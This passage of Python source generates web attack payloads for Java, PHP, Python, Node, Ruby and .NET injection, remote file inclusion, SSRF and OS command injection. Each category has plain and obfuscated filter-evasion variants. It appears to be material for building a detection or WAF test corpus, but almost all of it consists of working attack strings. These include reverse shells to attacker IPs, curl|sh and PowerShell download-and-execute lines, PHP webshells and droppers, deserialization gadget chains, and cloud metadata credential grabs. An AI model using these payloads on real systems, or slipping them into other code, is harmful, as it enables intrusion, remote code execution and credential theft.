                    "@type": "com.sun.rowset.JdbcRowSetImpl",
                    "dataSourceName": "rmi://%s:1099/Exploit" % ip,
                    "autoCommit": True,
                }
            ),
            "json",
            True,
            raw_json=True,
            enc="jsp",
            param="payload",
        )
    )
    h.append(
        A(
            jcompact(
                {
                    "@type": "Lcom.sun.rowset.JdbcRowSetImpl;",
                    "dataSourceName": "ldap://%s/Basic/Command/id" % o,
                    "autoCommit": True,
                }
            ),
            "json",
            True,
            raw_json=True,
            param="data",
        )
    )
    h.append(
        A(
            jcompact(
                {
                    "a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                    "b": {
                        "@type": "com.sun.rowset.JdbcRowSetImpl",
                        "dataSourceName": "ldap://%s:1389/Exploit" % ip,
                        "autoCommit": True,
                    },
                }
            ),
            "json",
            True,
            raw_json=True,
            param="settings",
        )
    )
    h.append(
        A(
            "(#a='ja'+'va.la'+'ng.Run'+'time').(#b=@java.lang.Class@forName(#a)).(#c=#b.getMethod('getRu'+'ntime').invoke(null)).(#c.exec('id'))",
            "form",
            True,
            param="redirectAction",
        )
    )
    h.append(
        A(
            "['ba'+'sh','-c',new String('%s'.decodeBase64())].execute().text" % b64("curl -s http://%s/g|sh" % ip),
            "multipart",
            True,
            param="script",
            path="/rest/scriptrunner/latest/user/exec/",
        )
    )
    h.append(
        A(
            'new javax.script.ScriptEngineManager().getEngineByName("js").eval(new java.lang.String(java.util.Base64.getDecoder().decode("%s")))'
            % b64("java.lang.Runtime.getRuntime().exec('id')"),
            "json",
            True,
            param="expr",
        )
    )
    h.append(
        A(
            '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://%s/p.jar"]]]]'
            % ip,
            "json",
            True,
            param="yaml",
            deep=12,
        )
    )
    h.append(A(longpad("#{T(java.lang.Runtime).getRuntime().exec('id')}"), "json", True, param="description"))
    h.append(
        A("${ScRiPt:js:java.lang.Runtime.getRuntime().exec('nslookup %s')}" % o, "header", True, hdr="X-Correlation-Id")
    )
    h.append(
        A(
            "T(java.lang.Runtime).getRuntime().exec(new String(T(java.util.Base64).getDecoder().decode('%s')))"
            % b64("curl http://%s/r -o /tmp/r" % ip),
            "header",
            True,
            hdr="spring.cloud.function.routing-expression",
            method="POST",
            path="/functionRouter",
        )
    )
    return n, h


# ---------------------------------------------------------------- php_injection


def specs_php():
    ip, o, d = eip(), oast(), edom()
    n = []
    n.append(
        A(
            "<?php system($_GET['c']); ?>",
            "multipart",
            mp="file",
            fname="avatar.php",
            fct="application/x-php",
            field="avatar",
            path="/user/avatar/upload",
        )
    )
    n.append(A("phpinfo();", "query", param="code"))
    n.append(A("system('id');", "form", param="cmd", path="/admin/settings.php"))
    n.append(A("php://filter/convert.base64-encode/resource=../config/database.php", "query", param="page"))
    n.append(A("php://input", "query", param="file", method="POST", path="/index.php"))
    n.append(A("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=", "query", param="page"))
    n.append(A("expect://id", "query", param="lang"))
    n.append(A("phar:///var/www/html/uploads/avatars/7f3c2a.jpg/test.txt", "form", param="template"))
    n.append(
        A(
            "/index/\\think\\app/invokefunction",
            "query",
            param="s",
            path="/index.php",
            qextra=[("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "id")],
        )
    )
    n.append(
        A(
            "mail[#post_render][]",
            "form",
            as_key=True,
            val="exec",
            path="/user/register",
            kind="cli",
            fextra=[("mail[#type]", "markup"), ("mail[#markup]", "id"), ("form_id", "user_register_form")],
            query="element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
        )
    )
    n.append(
        A(
            'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}',
            "json",
            param="data",
        )
    )
    n.append(
        A(
            'a:2:{i:0;O:8:"stdClass":0:{}i:1;O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:30:"<?php system($_GET[\'x\']); ?>";}}}s:39:"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode";N;s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:22:"/var/www/html/shell.php";s:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;}}',
            "cookie",
            cookie="cart",
        )
    )
    n.append(A("assert($_POST['x'])", "form", param="callback"))
    n.append(A("preg_replace('/.*/e', 'system(\"id\")', '')", "query", param="filter"))
    n.append(A("create_function('', 'system($_GET[\"c\"]);')", "json", param="func"))
    n.append(A("${@system($_GET['x'])}", "query", param="name"))
    n.append(
        A(
            "file_put_contents('/var/www/html/wp-content/uploads/.cache.php', '<?php @eval($_POST[\"pass\"]);?>');",
            "form",
            param="code",
        )
    )
    n.append(
        A(
            '<?php echo shell_exec($_REQUEST["c"]); ?>',
            "multipart",
            mp="file",
            fname="invoice.phtml",
            fct="image/jpeg",
            field="attachment",
        )
    )
    n.append(A("shell.php5", "multipart", mp="filename", content="<?=`$_GET[0]`?>", fct="image/png", field="photo"))
    n.append(
        A(
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
            "query_key",
            noeq=True,
            only=True,
            path="/cgi-bin/php-cgi",
            method="POST",
            kind="cli",
        )
    )
    n.append(
        A(
            jcompact(
                {
                    "solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                    "parameters": {
                        "variableName": "x",
                        "viewFile": "phar:///var/www/storage/logs/laravel.log/test.txt",
                    },
                }
            ),
            "json",
            raw_json=True,
            param="payload",
            path="/_ignition/execute-solution",
            kind="cli",
        )
    )
    n.append(A("passthru('cat /etc/passwd');", "header", hdr="X-Plugin-Hook"))
    n.append(A("include($_GET['p']);", "json", param="hook"))
    n.append(A("call_user_func('system', 'uname -a')", "query", param="func"))
    n.append(A("{${phpinfo()}}", "path", tpl="/page/{}"))
    n.append(A("eval($_REQUEST['c']);", "xml", param="callback"))
    n.append(A("array_map('system', array('whoami'))", "form", param="filter"))
    n.append(
        A(
            "<?php fputs(fopen('sh.php','w'),'<?php eval($_POST[1]);?>'); ?>",
            "json",
            param="content",
            path="/api/widget/save",
        )
    )
    n.append(A("usort($_GET, 'system')", "cookie", cookie="user_prefs"))
    n.append(A("zip://uploads/docs/report.zip#shell.php", "query", param="page"))
    h = []
    h.append(
        A(
            "-d allow_url_include=1 -d auto_prepend_file=php://input".replace("-", "\u00ad"),
            "query_key",
            True,
            noeq=True,
            only=True,
            enc="latin1",
            path="/index.php",
            method="POST",
            kind="cli",
        )
    )
    h.append(A('("sys"."tem")("id");', "query", True, param="code"))
    h.append(A('$_="`";$__=$_^"\\x0a\\x04";$__();', "form", True, param="data"))
    h.append(A("$a=str_rot13('flfgrz');$a('id');", "json", True, param="callback"))
    h.append(
        A("eval(base64_decode('%s'));" % b64("system('curl -s http://%s/x | sh');" % ip), "form", True, param="code")
    )
    h.append(
        A(
            "eval(gzinflate(base64_decode('%s')));" % b64(__import__("zlib").compress(b"system($_GET['c']);")[2:-4]),
            "query",
            True,
            param="cmd",
            enc="mixed",
        )
    )
    h.append(A("chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)('id');", "json", True, param="expr", enc="jsp"))
    h.append(A("$f='ass'.'ert';$f($_POST['z']);", "multipart", True, param="template"))
    h.append(A("%3C%3Fphp%20system%28%24_GET%5B%27c%27%5D%29%3B%3F%3E", "query", True, param="content"))
    h.append(
        A(
            "php://filter/read=string.rot13|convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=/var/www/html/.env",
            "json",
            True,
            param="template",
        )
    )
    h.append(A("PHP://FiLtEr/convert.base64-encode/resource=index", "query", True, param="page"))
    h.append(A("data:;base64,PD9waHAgcGFzc3RocnUoJF9HRVRbMF0pOyA/Pg==", "cookie", True, cookie="wp_settings"))
    h.append(A("<?=`$_GET[c]`?>", "json", True, param="signature", enc="ju"))
    h.append(A("<?php system('id'); ?>", "xml", True, param="note", enc="xr"))
    h.append(
        A(
            b64(
                'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":3:{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}}}'
            ),
            "cookie",
            True,
            cookie="remember_me",
        )
    )
    h.append(A("$x=[];$x[]='sys';$x[]='tem';$y=implode($x);$y($_GET[1]);", "json", True, param="code", deep=11))
    h.append(A(longpad("<?php @eval($_POST['k']); ?>"), "json", True, param="bio"))
    h.append(A("\\system('id');", "query", True, param="callback", enc="all"))
    h.append(
        A(
            "<?php\n/*GIF89a*/\n$c = $_SERVER['HTTP_X_C'];\n`$c`;\n",
            "multipart",
            True,
            mp="file",
            fname="photo.jpg.php",
            fct="image/gif",
            field="image",
        )
    )
    h.append(A("$GLOBALS['_'.'GET']['f']($GLOBALS['_'.'GET']['a']);", "header", True, hdr="X-Theme"))
    return n, h


# ---------------------------------------------------------------- code_injection


def specs_code():
    ip, o = eip(), oast()
    n = []
    n.append(A("__import__('os').system('id')", "query", param="expr"))
    n.append(A("__import__('subprocess').check_output(['cat','/etc/passwd'])", "json", param="formula"))
    n.append(
        A(
            "eval(compile('import socket,os,pty;s=socket.socket();s.connect((\"%s\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")','x','exec'))"
            % ip,
            "form",
            param="code",
        )
    )
    n.append(A("open('/etc/passwd').read()", "query", param="value"))
    n.append(A("require('child_process').execSync('id').toString()", "json", param="expression"))
    n.append(
        A("process.mainModule.require('child_process').exec('curl http://%s/n|sh')" % ip, "query", param="callback")
    )
    n.append(
        A(
            "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
            "json",
            param="transform",
        )
    )
    n.append(
        A(
            jcompact(
                {
                    "__proto__": {
                        "outputFunctionName": "x;process.mainModule.require('child_process').execSync('touch /tmp/ejs');x"
                    }
                }
            ),
            "json",
            raw_json=True,
            param="options",
            path="/api/templates/compile",
        )
    )
    n.append(
        A(
            jcompact(
                {
                    "constructor": {
                        "prototype": {
                            "shell": "/proc/self/exe",
                            "argv0": "console.log(require('child_process').execSync('id').toString())//",
                            "NODE_OPTIONS": "--require /proc/self/cmdline",
                        }
                    }
                }
            ),
            "json",
            raw_json=True,
            param="settings",
        )
    )
    n.append(A("`id`", "query", param="sort_key", path="/api/v2/sort"))
    n.append(A("Kernel.system('cat /etc/passwd')", "form", param="script"))
    n.append(A("IO.popen('id').read", "json", param="code"))
    n.append(
        A(
            "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve\n",
            "multipart",
            mp="file",
            fname="settings.yml",
            fct="application/x-yaml",
            field="import",
        )
    )
    n.append(A('system("id");', "query", param="input", path="/cgi-bin/calc.pl"))
    n.append(A('open(my $f, "|-", "wget http://%s/p -O /tmp/p; sh /tmp/p");' % ip, "form", param="expr"))
    n.append(A("qx{cat /etc/shadow}", "json", param="script"))
    n.append(A("os.execute('id')", "json", param="script", path="/api/v1/transform"))
    n.append(A("io.popen('cat /etc/passwd'):read('*a')", "form", param="lua"))
    n.append(A('"id".execute().text', "query", param="expr"))
    n.append(
        A(
            'System.Diagnostics.Process.Start("cmd.exe", "/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt")',
            "json",
            param="formula",
        )
    )
    n.append(
        A(
            jcompact(
                {
                    "$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                    "MethodName": "Start",
                    "MethodParameters": {
                        "$type": "System.Collections.ArrayList, mscorlib",
                        "$values": ["cmd", "/c calc"],
                    },
                    "ObjectInstance": {"$type": "System.Diagnostics.Process, System"},
                }
            ),
            "json",
            raw_json=True,
            param="item",
        )
    )
    n.append(
        A(
            "!!python/object/apply:os.system ['curl http://%s/y | sh']" % ip,
            "multipart",
            mp="file",
            fname="pipeline.yaml",
            fct="text/yaml",
            field="file",
        )
    )
    n.append(A('system("id", intern = TRUE)', "json", param="code", path="/api/v2/notebooks/cells/run"))
    n.append(A("import os; os.popen('id').read()", "xml", param="script"))
    n.append(
        A(
            "exec(\"import urllib.request as u;exec(u.urlopen('http://%s/p.py').read())\")" % ip,
            "header",
            hdr="X-Debug-Eval",
        )
    )
    n.append(
        A(
            "global.process.mainModule.require('child_process').spawnSync('sh',['-c','id']).stdout.toString()",
            "path",
            tpl="/api/expr/{}",
        )
    )
    n.append(A("[].constructor.constructor('return this.process')().env", "query", param="filter"))
    n.append(
        A(
            "require('fs').writeFileSync('/app/public/s.js','require(\"child_process\").exec(process.argv[2])')",
            "form",
            param="transform",
        )
    )
    n.append(A("__import__('os').popen('env').read()", "cookie", cookie="prefs"))
    n.append(A('Runtime.getRuntime().exec("id")', "json_key", param="columns", val="sum"))
    h = []
    h.append(A("getattr(__import__('o'+'s'),'sys'+'tem')('id')", "query", True, param="expr", enc="mixed"))
    h.append(A("__builtins__.__dict__['__im'+'port__']('os').system('id')", "json", True, param="formula"))
    h.append(
        A(
            "eval(bytes.fromhex('%s').decode())" % "__import__('os').system('id')".encode().hex(),
            "form",
            True,
            param="code",
        )
    )
    h.append(
        A(
            "exec(__import__('base64').b64decode('%s'))" % b64("import os;os.system('curl %s|sh')" % ip),
            "json",
            True,
            param="script",
        )
    )
    h.append(A(b64(b"cposix\nsystem\n(Vcurl http://" + ip.encode() + b"/k|sh\ntR."), "cookie", True, cookie="session"))
    h.append(
        A(
            "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,83,121,110,99,40,39,105,100,39,41))",
            "query",
            True,
            param="callback",
        )
    )
    h.append(
        A(
            "eval(Buffer.from('%s','base64').toString())"
            % b64("require('child_process').exec('nc %s 4444 -e sh')" % ip),
            "json",
            True,
            param="expression",
            enc="jsp",
        )
    )
    h.append(
        A(
            b64("{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){})}()\"}"),
            "cookie",
            True,
            cookie="profile",
        )
    )
    h.append(
        A(
            "global['proc'+'ess']['mainMod'+'ule']['req'+'uire']('child_'+'process')['exe'+'cSync']('id')",
            "json",
            True,
            param="transform",
            deep=10,
        )
    )
    h.append(A("send(:sys\u0074em, 'id')".replace("\u0074", "t"), "json", True, param="code", enc="ju"))
    h.append(A("Kernel.public_send(['sy','stem'].join, 'id')", "form", True, param="script", enc="all"))
    h.append(
        A(
            b64(
                b'\x04\x08[\x07o:\x15Gem::SpecFetcher\x00o:\x15Gem::Requirement\x06:\x11@requirementso:\x18Gem::DependencyList\x07:\x0b@specs[\x07o:\x1eGem::Source::SpecificFile\x06:\n@specio:\x1bGem::StubSpecification\x06:\x11@loaded_fromI"\x0f|id 1>&2\x06:\x06ET'
            ),
            "form",
            True,
            param="state",
        )
    )
    h.append(A('$_="id";print `$_`;', "multipart", True, param="snippet"))
    h.append(
        A(
            "eval(unpack('u','%s'))" % __import__("binascii").b2a_uu(b"system('id')").decode().strip(),
            "json",
            True,
            param="expr",
        )
    )
    h.append(
        A(
            "load(string.char(111,115,46,101,120,101,99,117,116,101,40,34,105,100,34,41))()",
            "query",
            True,
            param="script",
        )
    )
    h.append(
        A(
            b64(dotnet_bf("cmd /c powershell -nop -w hidden -c iwr http://%s/d|iex" % ip)),
            "form",
            True,
            param="__VIEWSTATE",
            path="/Default.aspx",
            fextra=[("__VIEWSTATEGENERATOR", "CA0B0334"), ("__EVENTVALIDATION", b64(rbytes(48)))],
        )
    )
    h.append(A(longpad("__import__('os').system('id')"), "json", True, param="notes"))
    h.append(
        A(
            "(lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'],stdout=-1).communicate())()",
            "xml",
            True,
            param="expr",
            enc="xr",
        )
    )
    h.append(
        A(
            '"".getClass().forName("java.lang."+"Runtime").getMethod("exec","".getClass()).invoke("".getClass().forName("java.lang."+"Runtime").getMethod("getRuntime").invoke(null),"id")',
            "query",
            True,
            param="value",
        )
    )
    h.append(
        A(
            "eval(\"\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x28\\x27\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73\\x27\\x29\").execSync('id')",
            "header",
            True,
            hdr="X-Transform",
        )
    )
    return n, h


# ---------------------------------------------------------------- rfi


def specs_rfi():
    ip, d = eip(), edom()
    n = []
    n.append(A("http://%s/shell.txt?" % ip, "query", param="page"))
    n.append(A("https://%s/c99.txt" % d, "query", param="include"))
    n.append(A("http://%s/r57.txt%%00" % d, "query", param="file"))
    n.append(A("ftp://anonymous:guest@%s/pub/wso.php" % ip, "query", param="module"))
    n.append(A("\\\\%s\\share\\shell.php" % ip, "query", param="lang"))
    n.append(A("//%s/inc/config.txt" % d, "query", param="template"))
    n.append(A("http://%s/bd.txt?cmd=id" % ip, "form", param="template", path="/admin/theme/install"))
    n.append(A("https://raw.githubusercontent.com/%s/tools/main/wso.txt" % ralnum(8, LOWER), "query", param="skin"))
    n.append(A("https://pastebin.com/raw/%s" % ralnum(8), "json", param="plugin", path="/api/plugins/load"))
    n.append(A("http://%s/webshell.txt" % ip, "cookie", cookie="lang"))
    n.append(A("http://%s:8080/x.php?" % ip, "query", param="path"))
    n.append(A("https://%s/payload.txt?" % d, "path", tpl="/index.php/{}"))
    n.append(A("http://%s/tmp/php-backdoor.txt" % ip, "header", hdr="X-Include"))
    n.append(A("https://%s/modules/mod.inc" % d, "multipart", param="module_url", path="/admin/import.php"))
    n.append(A("http://%s/shell.txt" % ip, "xml", param="templateUrl"))
    n.append(A("http://%s/inc.txt?" % d, "query", param="inc", path="/modules/loader.php"))
    n.append(A("https://%s/lang/en.txt?" % d, "query", param="lang", path="/main.php"))
    n.append(A("http://%s/footer.php.txt?x=" % ip, "form", param="layout"))
    n.append(A("smb://%s/public/shell.php" % ip, "query", param="file"))
    n.append(A("http://%s/s.txt" % ip, "json", param="include"))
    n.append(A("ftp://%s/incoming/bd.php" % ip, "json", param="theme", path="/admin/theme/install"))
    n.append(A("https://%s/gallery.inc" % d, "query", param="view", path="/view.php"))
    n.append(A("http://%s/k.txt?" % ip, "query_key", noeq=True, path="/help/index.php"))
    n.append(
        A("https://gist.githubusercontent.com/%s/raw/%s/s.txt" % (ralnum(7, LOWER), rhex(40)), "query", param="page")
    )
    n.append(A("http://%s/xx.txt%%00.php" % ip, "form", param="inc"))
    n.append(A("http://%s/modules/loader" % d, "cookie", cookie="template"))
    n.append(A("https://%s/pdf/templates/invoice.tpl" % d, "json", param="template_url"))
    n.append(A("\\\\%s@SSL\\DavWWWRoot\\s.php" % d, "query", param="file"))
    n.append(A("http://%s/x.txt" % ip, "multipart", param="skin"))
    n.append(A("http://%s/s.php?" % ip, "query", param="theme", path="/templates/show.php"))
    h = []
    h.append(A("hTtP://%s/ShElL.txt?" % ip, "query", True, param="page"))
    h.append(A("http%%3A%%2F%%2F%s%%2Fshell.txt" % ip, "query", True, param="file"))
    h.append(
        A(
            "http://%d/sh.txt?" % int.from_bytes(bytes(int(x) for x in ip.split(".")), "big"),
            "query",
            True,
            param="include",
        )
    )
    h.append(A("http://0x%s/sh.txt?" % bytes(int(x) for x in ip.split(".")).hex(), "form", True, param="template"))
    h.append(
        A("http://www.%s.com@%s/inc.txt?" % (ch(["google", "example", "microsoft"]), ip), "query", True, param="lang")
    )
    h.append(A("data:text/plain;base64,%s" % b64("<?php system($_GET['cmd']); ?>"), "query", True, param="page"))
    h.append(A("http://%s/cmd.txt?" % ip, "query", True, param="module", enc="all"))
    h.append(A("http://%s/up/x.txt?" % ip, "json", True, param="include", enc="ju"))
    h.append(A("http://%s/s.txt" % d, "xml", True, param="page", enc="xr"))
    h.append(A("h\ttp://%s/s.txt?" % d, "query", True, param="page"))
    h.append(A("HTTPS://%s/%%2e%%2e/shell.txt?" % d.upper(), "form", True, param="skin"))
    h.append(A("http:%s/shell.txt" % ("\\\\" + ip), "query", True, param="file"))
    h.append(A("https://%s/assets/layout.txt?" % edom(), "json", True, param="layout", deep=11))
    h.append(A("http:/\\/\\%s/shell.txt" % d, "cookie", True, cookie="skin"))
    h.append(A("ftp://%s/%%73hell.txt" % ip, "query", True, param="inc", enc="mixed"))
    h.append(A("compress.zlib://http://%s/s.txt" % ip, "query", True, param="page"))
    h.append(A("https:%%2f%%2f%s%%2fwso.txt" % d, "path", True, tpl="/load/{}"))
    h.append(A("http://%s%%E3%%80%%82%s/sh.txt" % (d.split(".")[0], d.split(".")[-1]), "query", True, param="template"))
    h.append(A("\u0068ttp://%s/s.txt?" % ip, "multipart", True, param="template", mp="field"))
    h.append(A("http://%s/shell.txt?.jpg" % ip, "query", True, param="img_include"))
    return n, h


# ---------------------------------------------------------------- ssrf


def ip_int(s):
    return int.from_bytes(bytes(int(x) for x in s.split(".")), "big")


def specs_ssrf():
    o = oast()
    n = []
    n.append(A("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "query", param="url"))
    n.append(A("http://169.254.169.254/latest/user-data", "json", param="webhook_url", path="/api/v1/webhooks"))
    n.append(
        A(
            "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "query",
            param="image_url",
        )
    )
    n.append(
        A(
            "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
            "json",
            param="endpoint",
            path="/api/integrations/test",
        )
    )
    n.append(
        A(
            "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
            "form",
            param="callback",
        )
    )
    n.append(A("http://169.254.169.254/metadata/v1.json", "query", param="feed"))
    n.append(A("http://100.100.100.200/latest/meta-data/ram/security-credentials/", "query", param="src"))
    n.append(A("http://169.254.169.254/opc/v2/instance/", "json", param="url", headers=[]))
    n.append(A("http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/", "query", param="target"))
    n.append(
        A(
            "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
            "json",
            param="feed",
            path="/api/feeds",
        )
    )
    n.append(A("http://127.0.0.1:2375/containers/json", "query", param="uri"))
    n.append(
        A(
            "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
            "query",
            param="url",
        )
    )
    n.append(A("dict://127.0.0.1:11211/stats", "form", param="link"))
    n.append(A("file:///etc/passwd", "json", param="image_url", path="/api/v1/avatar"))
    n.append(A("http://localhost:8500/v1/agent/self", "query", param="dest"))
    n.append(A("http://127.0.0.1:9200/_cat/indices?v", "query", param="remote"))
    n.append(A("http://[::1]:8080/actuator/env", "json", param="callback"))
    n.append(A("http://10.0.0.1/admin/", "form", param="webhook_url"))
    n.append(A("http://192.168.1.1/cgi-bin/luci", "query", param="url"))
    n.append(A("http://169.254.169.254/latest/meta-data/", "path", tpl="/proxy/{}"))
    n.append(A("http://169.254.169.254/latest/meta-data/iam/info", "path", tpl="/unsafe/300x200/smart/{}", kind="cli"))
    n.append(
        A(
            "http://internal-billing.%s/api/admin/users" % ch(["svc.cluster.local", "corp.internal", "prod.local"]),
            "json",
            param="target",
        )
    )
    n.append(A("http://127.0.0.1:15000/config_dump", "query", param="url"))
    n.append(A("ldap://127.0.0.1:389/dc=corp,dc=local??sub?(objectClass=*)", "json", param="uri"))
    n.append(
        A(
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image xlink:href="http://169.254.169.254/latest/meta-data/hostname" width="200" height="200"/></svg>',
            "multipart",
            mp="file",
            fname="logo.svg",
            fct="image/svg+xml",
            field="logo",
            path="/api/documents/from-url",
        )
    )
    n.append(A("http://169.254.169.254/latest/api/token", "xml", param="callbackUrl"))
    n.append(A("http://127.0.0.1:8080/manager/html", "header", hdr="X-Callback-Url"))
    n.append(A("http://localhost/server-status", "cookie", cookie="preview_url"))
    n.append(A("http://%s/" % o, "query", param="url", path="/api/unfurl"))
    n.append(A("jar:http://127.0.0.1:8983/solr/admin/cores!/", "query", param="feed"))
    h = []
    n_hard = [
        ("http://2852039166/latest/meta-data/", "query"),
        ("http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/", "json"),
        ("http://0xa9fea9fe/latest/user-data", "form"),
        ("http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/", "query"),
        ("http://[::ffff:169.254.169.254]/latest/meta-data/", "json"),
        ("http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/", "query"),
        ("http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/", "query"),
        ("http://169.254.169.254.nip.io/latest/meta-data/", "json"),
        ("http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/", "query"),
        ("http://allowed-cdn.%s@169.254.169.254/latest/meta-data/" % ch(["pixelcrate.co", "linkpeek.io"]), "form"),
        ("http://169.254.169.254#@images.pixelcrate.co/logo.png", "query"),
        (
            "https://redirect.%s/302?to=http%%3A%%2F%%2F169.254.169.254%%2Flatest%%2Fmeta-data%%2F"
            % ch(["tinyhop.io", "r-bounce.net"]),
            "json",
        ),
        (
            "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/",
            "query",
        ),
        ("http://127.1:6379/", "query"),
        ("http://0/server-status", "form"),
        ("http://%d:2375/containers/json" % ip_int("127.0.0.1"), "path"),
        ("http://169.254.169.254/latest/meta-data/", "json"),
        ("http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "query"),
        ("http://metadata.google.internal./computeMetadata/v1beta1/instance/service-accounts/default/token", "xml"),
        ("http://localtest.me:8080/admin", "header"),
    ]
    for i, (u, pl) in enumerate(n_hard):
        kw = {}
        if pl == "json" and i == 16:
            kw = dict(enc="ju")
        if pl == "json" and i == 1:
            kw = dict(deep=10)
        if pl == "path":
            kw = dict(tpl="/fetch/{}")
        if pl == "header":
            kw = dict(hdr="X-Forwarded-Host")
        if pl == "xml":
            kw = dict(enc="xr")
        if i == 0:
            kw = dict(enc="mixed")
        h.append(A(u, pl, True, **kw))
    return n, h


# ---------------------------------------------------------------- rce


def ps_enc(s):
    return b64(s.encode("utf-16-le"))


def specs_rce():
    ip, o = eip(), oast()
    n = []
    n.append(A("8.8.8.8; id", "query", param="host"))
    n.append(A("127.0.0.1 | cat /etc/passwd", "form", param="ip", path="/api/diagnostics/ping"))
    n.append(A("example.com && curl -s http://%s/x.sh | sh" % ip, "json", param="domain"))
    n.append(A("`whoami`", "query", param="name"))
    n.append(A("$(wget -qO- http://%s/m | sh)" % ip, "json", param="target"))
    n.append(A("1.1.1.1 || nslookup %s" % o, "query", param="addr"))
    n.append(A("localhost\nid", "form", param="host"))
    n.append(A("x; bash -i >& /dev/tcp/%s/4444 0>&1" % ip, "json", param="hostname"))
    n.append(A("127.0.0.1; nc -e /bin/sh %s 9001" % ip, "query", param="ip"))
    n.append(A("10.0.0.1;busybox nc %s 4444 -e sh" % ip, "form", param="dst", path="/goform/setSysAdm"))
    n.append(
        A(
            "google.com; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc %s 1337 >/tmp/f" % ip,
            "json",
            param="host",
        )
    )
    n.append(
        A(
            "| powershell -NoP -NonI -W Hidden -Exec Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')\""
            % ip,
            "form",
            param="filename",
        )
    )
    n.append(A("& whoami & dir C:\\Users", "query", param="device"))
    n.append(
        A(
            "test.pdf & certutil -urlcache -split -f http://%s/b.exe %%TEMP%%\\b.exe & %%TEMP%%\\b.exe" % ip,
            "json",
            param="filename",
            path="/api/convert",
        )
    )
    n.append(
        A(
            "() { :; }; /bin/bash -c 'curl http://%s/ss | sh'" % ip,
            "header",
            hdr="User-Agent",
            path="/cgi-bin/status",
            kind="cli",
        )
    )
    n.append(
        A(
            "() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd",
            "header",
            hdr="Referer",
            path="/cgi-bin/test.cgi",
        )
    )
    n.append(A("eth0; cat /etc/shadow", "form", param="interface"))
    n.append(
        A(
            '1.2.3.4 -c 1; python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("%s",443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\''
            % ip,
            "json",
            param="ip",
        )
    )
    n.append(
        A(
